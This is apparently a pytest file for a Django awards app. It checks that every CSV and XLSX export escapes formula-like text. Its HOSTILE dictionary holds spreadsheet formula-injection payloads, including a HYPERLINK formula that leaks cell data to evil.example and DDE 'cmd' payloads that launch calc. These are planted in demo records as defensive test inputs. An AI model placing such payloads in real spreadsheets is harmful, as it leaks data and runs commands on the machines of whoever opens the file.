"""No export carries a formula (docs/security.md, "Exports").

Every spreadsheet is written through songlo/spreadsheets.py: the first test fails if code anywhere
else writes a workbook or a CSV, or if a page export is added without a case below. The others
give demo units, people and accounts names that are formulas, export them from every page and
from every admin that exports, and read the files back.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.test import Client, RequestFactory
from django.urls import reverse
from import_export.admin import ExportMixin
from openpyxl import load_workbook

from awards.models import AwardRecord, AwardType, Nomination, Person
from campaigns.models import Movement, ReviewPeriod
from council import services as council_services
from council.models import Decision, DecisionEntry, HigherProposal
from organisation.models import OrgUnit
from songlo.spreadsheets import FORMULA_STARTS, SafeCSV, SafeXLSX, csv_text

ROOT = Path(__file__).resolve().parents[2]
CODE = ["songlo", "accounts", "organisation", "campaigns", "awards", "council", "reports", "demo", "bench"]
KERNEL = ROOT / "songlo" / "spreadsheets.py"
# Writing a spreadsheet anywhere but the kernel helper: openpyxl's Workbook(), the csv writers,
# pandas, tablib exports, or a spreadsheet content type set by hand.
WRITERS = re.compile(
    r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|\.to_excel\(|\.to_csv\(|\.export\(\"|text/csv"
    r"|content_type\s*=\s*\"application/vnd\.openxmlformats-officedocument\.spreadsheetml"
)
# The page exports, by the module that builds their response: each has a case in PAGE_EXPORTS.
PAGE_EXPORT_CALLS = {
    "awards/views.py": 1,
    "awards/import_views.py": 1,
    "campaigns/views/reviews.py": 1,
    "council/register_views.py": 2,
    "council/bundle_views.py": 1,
    # The list pages' exports (list_xlsx_response): eligibility, people, award history; registrations; decisions.
    "awards/exports.py": 3,
    # Registered vs achieved (list_xlsx_response).
    "awards/achievement.py": 1,
    "campaigns/exports.py": 1,
    "council/exports.py": 1,
    "reports/views.py": 1,
}

HOSTILE = {
    "unit": '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "person": "+cmd|' /C calc'!A0",
    "movement": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reason": "-2+3+cmd|' /C calc'!A0",
    "user": "\t=1+1",
    "email": "=1+1@evil.example",
}


def _python_files():
    for top in CODE:
        for path in sorted((ROOT / top).rglob("*.py")):
            if "migrations" not in path.parts:
                yield path


def test_no_code_but_the_kernel_writes_a_spreadsheet_and_every_page_export_has_a_case():
    writers = sorted(
        str(path.relative_to(ROOT))
        for path in _python_files()
        if path != KERNEL and WRITERS.search(path.read_text(encoding="utf-8"))
    )
    calls = {
        str(path.relative_to(ROOT)): text.count("xlsx_response(")
        for path in _python_files()
        if path != KERNEL and "xlsx_response(" in (text := path.read_text(encoding="utf-8"))
    }

    assert writers == []
    assert calls == PAGE_EXPORT_CALLS, "a new export: add it to PAGE_EXPORTS below (and PAGE_EXPORT_CALLS)"


def test_kernel_csv_text_prefixes_formulas_and_keeps_numbers():
    assert [csv_text(v) for v in ["=1+1", "+1+1", "-1+1", "@A1", "\tx", "\rx", "a=b", ""]] == [
        "'=1+1",
        "'+1+1",
        "'-1+1",
        "'@A1",
        "'\tx",
        "'\rx",
        "a=b",
        "",
    ]
    assert [csv_text(v) for v in ["-5", "+3.5", "-1,25", -5, 2.5, None]] == ["-5", "+3.5", "-1,25", -5, 2.5, None]


def _make_hostile():
    unit = OrgUnit.objects.filter(reviews__isnull=False).order_by("path").first()
    OrgUnit.objects.filter(pk=unit.pk).update(name=HOSTILE["unit"])
    period = ReviewPeriod.objects.filter(reviews__unit=unit).first()
    Movement.objects.filter(pk=period.movement_id).update(title=HOSTILE["movement"])
    nomination = Nomination.objects.filter(person__isnull=False).order_by("pk").first()
    Person.objects.filter(pk=nomination.person_id).update(full_name=HOSTILE["person"])
    Nomination.objects.filter(pk=nomination.pk).update(override_reason=HOSTILE["reason"], movement=period.movement)
    decided = DecisionEntry.objects.filter(nomination__person__isnull=False).order_by("pk").first()
    Person.objects.filter(pk=decided.nomination.person_id).update(full_name=HOSTILE["person"])
    get_user_model().objects.filter(username="vanphong").update(full_name=HOSTILE["user"], email=HOSTILE["email"])
    return period


def _hostile_bundle():
    """A bundle (tờ trình) to the province carrying the hostile person's dossier."""
    office = get_user_model().objects.get(username="vanphong")
    nomination = Nomination.objects.filter(person__full_name=HOSTILE["person"], higher_proposal__isnull=True).first()
    body = office.memberships.get(role="office").unit
    HigherProposal.objects.create(nomination=nomination, from_body=body, authority="province_chair")
    return council_services.bundle_create(actor=office, body=body)[0]


def _page_exports(period) -> dict[str, str]:
    return {
        "council:bundle_xlsx": reverse("council:bundle_xlsx", args=[_hostile_bundle().pk]),
        "campaigns:period_export": reverse("campaigns:period_export", args=[period.pk]),
        "awards:nomination_list?export=xlsx": reverse("awards:nomination_list") + "?export=xlsx",
        "awards:import_template": reverse("awards:import_template"),  # no data of anyone's: fixed labels
        "council:golden_book?format=xlsx": reverse("council:golden_book") + "?year=2024&format=xlsx",
        "council:payout_xlsx": reverse("council:payout_xlsx", args=[Decision.objects.order_by("pk").first().pk]),
        # The statistics form of the renamed unit: its name only inside "Đơn vị báo cáo: …".
        "reports:form_xlsx": reverse("reports:form_xlsx", args=["0603.N"])
        + f"?year=2024&body={period.reviews.order_by('unit__path').first().unit.code}",
        **_list_exports(period),
    }


def _list_exports(period) -> dict[str, str]:
    unit = OrgUnit.objects.get(name=HOSTILE["unit"])
    return {
        "awards:eligibility": reverse("awards:eligibility") + f"?unit={unit.code}&show=all&export=xlsx",
        "awards:people": reverse("awards:people") + "?export=xlsx",
        "awards:unit_history": reverse("awards:unit_history", args=[unit.code]) + "?export=xlsx",
        "campaigns:registration_status": reverse("campaigns:registration_status", args=[period.movement_id])
        + "?export=xlsx",
        "council:decision_list": reverse("council:decision_list") + "?export=xlsx",
        "awards:registered_achieved": reverse("awards:registered_achieved") + "?year=2024&export=xlsx",
    }


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_no_formula(cells, expected: set[str]) -> None:
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert expected <= texts
    hostile_cells = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
    assert hostile_cells
    assert all(c.quotePrefix for c in hostile_cells)


def test_demo_page_exports_write_formula_like_names_as_text(demo):
    period = _make_hostile()
    client = Client()
    client.force_login(get_user_model().objects.get(username="vanphong"))
    exports = _page_exports(period)
    assert len(exports) == sum(PAGE_EXPORT_CALLS.values())

    period_cells = _cells(client.get(exports["campaigns:period_export"]).content)
    nomination_cells = _cells(client.get(exports["awards:nomination_list?export=xlsx"]).content)
    template_cells = _cells(client.get(exports["awards:import_template"]).content)
    report_cells = _cells(client.get(exports["reports:form_xlsx"]).content)

    for name in ("council:golden_book?format=xlsx", "council:payout_xlsx", "council:bundle_xlsx"):
        _assert_no_formula(_cells(client.get(exports[name]).content), {HOSTILE["person"]})
    _assert_no_formula(period_cells, {HOSTILE["unit"], HOSTILE["movement"]})
    _assert_no_formula(nomination_cells, {HOSTILE["person"], HOSTILE["reason"], HOSTILE["movement"]})
    assert template_cells
    assert [c.coordinate for c in template_cells if c.data_type == "f"] == []
    assert [c.coordinate for c in report_cells if c.data_type == "f"] == []
    assert any(HOSTILE["unit"] in str(c.value) for c in report_cells)
    # Numbers stay numbers: the row numbers and the years.
    assert {c.data_type for c in nomination_cells if c.column == 11 and c.row > 3} == {"n"}
    status_sheet = [c for c in period_cells if c.parent.title == "Tình hình nộp báo cáo"]
    assert {c.data_type for c in status_sheet if c.column == 1 and c.row > 3} == {"n"}


def test_demo_list_exports_write_formula_like_names_as_text(demo):
    period = _make_hostile()
    unit = OrgUnit.objects.get(name=HOSTILE["unit"])
    AwardRecord.objects.create(unit=unit, award_type=AwardType.objects.get(code="TTLDTT"), year=2020)
    Decision.objects.filter(pk=Decision.objects.order_by("pk").values("pk")[:1]).update(summary=HOSTILE["reason"])
    client = Client()
    client.force_login(get_user_model().objects.get(username="vanphong"))
    expected = {
        "awards:eligibility": {HOSTILE["unit"]},
        "awards:people": {HOSTILE["person"]},
        "awards:unit_history": {HOSTILE["unit"]},
        "campaigns:registration_status": {HOSTILE["unit"], HOSTILE["movement"]},
        "council:decision_list": {HOSTILE["reason"]},
        "awards:registered_achieved": {HOSTILE["unit"]},
    }
    for name, url in _list_exports(period).items():
        response = client.get(url)
        assert response.status_code == 200, name
        _assert_no_formula(_cells(b"".join(response.streaming_content)), expected[name])


def _export_admins():
    return [
        (model, model_admin)
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, ExportMixin)
    ]


def test_demo_every_admin_export_writes_formula_like_values_as_text(demo):
    _make_hostile()
    superuser = get_user_model().objects.get(username="admin")
    request = RequestFactory().get("/admin/")
    request.user = superuser
    admins = _export_admins()
    assert {model._meta.label for model, _ in admins} >= {"accounts.User", "organisation.OrgUnit"}

    for model, model_admin in admins:
        assert [type(f()) for f in model_admin.get_export_formats()] == [SafeCSV, SafeXLSX], model
        queryset = model_admin.get_queryset(request)

        text = model_admin.get_export_data(SafeCSV(), request, queryset)
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        risky = [c for c in cells if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?\d+([.,]\d+)?", c)]
        assert risky == [], (model, risky)

        xlsx_cells = _cells(model_admin.get_export_data(SafeXLSX(), request, queryset))
        assert [c.coordinate for c in xlsx_cells if c.data_type == "f"] == [], model
        if model is get_user_model():
            assert "'" + HOSTILE["user"] in cells
            assert HOSTILE["user"] in {c.value for c in xlsx_cells if c.data_type == "s" and c.quotePrefix}
        if model is OrgUnit:
            assert "'" + HOSTILE["unit"] in cells
            assert HOSTILE["unit"] in {c.value for c in xlsx_cells if c.data_type == "s" and c.quotePrefix}


def test_demo_admin_export_view_sends_the_escaped_file(demo):
    _make_hostile()
    client = Client()
    client.force_login(get_user_model().objects.get(username="admin"))
    url = reverse("admin:accounts_user_export")
    form = client.get(url).context["form"]
    fields = {name: "on" for name in form.fields if name.startswith("userresource_")}

    response = client.post(url, {"format": "0", "resource": "0", **fields})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "'" + HOSTILE["user"] in [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


@pytest.mark.parametrize(
    ("value", "data_type"),
    [("=1+1", "s"), ("-5", "s"), (-5, "n"), (3.25, "n"), ("a\x00b", "s")],
)
def test_kernel_append_row_never_writes_a_formula(value, data_type):
    from songlo.spreadsheets import append_row, workbook, xlsx_bytes

    book, sheet = workbook()
    append_row(sheet, [value])

    (cell,) = _cells(xlsx_bytes(book))
    assert cell.data_type == data_type
